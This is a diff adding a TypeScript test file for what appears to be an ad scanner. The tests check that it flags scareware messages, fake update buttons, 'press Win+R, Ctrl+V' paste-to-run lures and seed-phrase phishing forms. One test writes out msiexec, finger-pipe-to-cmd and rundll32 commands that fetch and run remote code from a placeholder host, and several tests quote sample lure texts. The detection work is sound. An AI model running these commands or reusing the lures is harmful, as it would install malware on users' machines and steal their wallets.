@@ -1,0 +1,91 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import type { ObservationOf } from '@adsweep/shared/capture/observations/index.ts';
+import { observed, PAGE, slugsOf } from '../../support/detected.ts';
+
+describe('§2.5.13 techniques of malicious ads', () => {
+  const form = (facts: Partial<ObservationOf<'form'>['facts']>) =>
+    observed('form', { fields: ['password'], action_url: `${PAGE}/next`, text: 'Sign in', ...facts });
+  const scriptFile = (text: string) => {
+    return { url: PAGE, resource_type: 'script', content_type: '', bytes: text.length, text };
+  };
+
+  it('scareware is found on telephones, in each language, by what was found on them', () => {
+    for (const threat of [
+      'Virus detected on your iPhone!',
+      '13 viruses were found on your phone',
+      'Auf Ihrem Gerät wurden 4 Viren gefunden',
+      '4 virus ont été détectés sur votre iPhone',
+      'Se han encontrado 4 virus en su iPhone',
+      'Votre iPhone est infecté',
+      'Ihr Smartphone ist infiziert',
+      'Tu celular está infectado',
+      'Il tuo iPhone è infetto',
+      'Ваш iPhone заражён',
+    ])
+      assert.deepEqual(slugsOf({ text: `${threat}\nDo not close this window.` }), ['scareware'], threat);
+  });
+
+  it('fake_update is found for the number of an old version, and for a button of any element', () => {
+    const text = 'Google Chrome 117.0.5938.92 is out of date.';
+    assert.deepEqual(slugsOf({ text, html: '<a href="/get/Setup.exe">Update</a>' }), ['fake_update']);
+    assert.deepEqual(slugsOf({ text, html: '<div class="b" onclick="get()"><b>Update</b> Chrome</div>' }), [
+      'fake_update',
+    ]);
+    assert.deepEqual(slugsOf({ text, html: '<span role="button">Update Chrome</span>' }), ['fake_update']);
+    assert.deepEqual(slugsOf({ text, html: '<div>Update Chrome</div>' }), []);
+  });
+
+  it('paste_to_run is found in the wordings of keys and of proofs that pages use', () => {
+    const proof = 'Verify you are a human.\n';
+    for (const steps of [
+      'Hold the Windows key, then press R.\nPress Control + V.',
+      'Press the Windows key and press R.\nPress "CTRL" + "V".',
+      'Windowsキー + Rキーを押します\nCtrl+Vを押します',
+      'Druk op de Windows-toets + R.\nPlak de code.',
+      'Pulse las teclas Windows y R.\nPulse Ctrl y pegue el texto.',
+      'Open the Run window, paste the code.',
+      'Press 🪟 + R, then Ctrl-V',
+    ])
+      assert.deepEqual(slugsOf({ text: proof + steps }), ['paste_to_run'], steps);
+    for (const said of [
+      'I am not a bot',
+      'Sie sind ein Mensch? Bestätigen Sie, dass Sie ein Mensch sind.',
+      'insan olduğunuzu doğrulayın',
+    ])
+      assert.deepEqual(slugsOf({ text: `${said}\nWin + R\nCtrl + V` }), ['paste_to_run'], said);
+  });
+
+  it('paste_to_run is found in an instruction that is shown later, if a file copies something', () => {
+    const html =
+      '<ol hidden=""><li>Verify that you are human</li><li>Press Windows + R</li><li>Press Ctrl + V</li></ol>';
+    const copies = (code: string) => slugsOf({ html }, [], { bodies: [scriptFile(code)] });
+    assert.deepEqual(copies('navigator.clipboard.writeText(code)'), ['paste_to_run']);
+    assert.deepEqual(copies('run(code)'), []);
+  });
+
+  it('paste_to_run is found for programs that load others', () => {
+    const text = 'Something went wrong. How to fix it:\n1. Press Win + R\n2. Press Ctrl + V';
+    for (const command of [
+      'msiexec /qn /i https://x.example/a.msi',
+      'cmd /c finger a@x.example | cmd',
+      'rundll32 \\\\\\\\x.example\\\\a\\\\b.dll,#1',
+    ]) {
+      const html = `<script>navigator.clipboard.writeText("${command}")</script>`;
+      assert.deepEqual(slugsOf({ text, html }), ['paste_to_run'], command);
+    }
+  });
+
+  it('phishing_form is found for the phrase of a wallet under a pretext', () => {
+    const asked = form({ fields: ['seed_phrase'], text: '' });
+    for (const text of [
+      'Validate your wallet',
+      'Synchronize your wallet to claim the airdrop',
+      'Enter your recovery phrase to claim 500 tokens',
+    ]) {
+      assert.deepEqual(slugsOf({ text }, [asked]), ['phishing_form'], text);
+      assert.deepEqual(slugsOf({ text }, [form({})]), [], text);
+    }
+    assert.deepEqual(slugsOf({ text: 'Validate your wallet. Beware of scams: a scam' }, [asked]), []);
+  });
+});
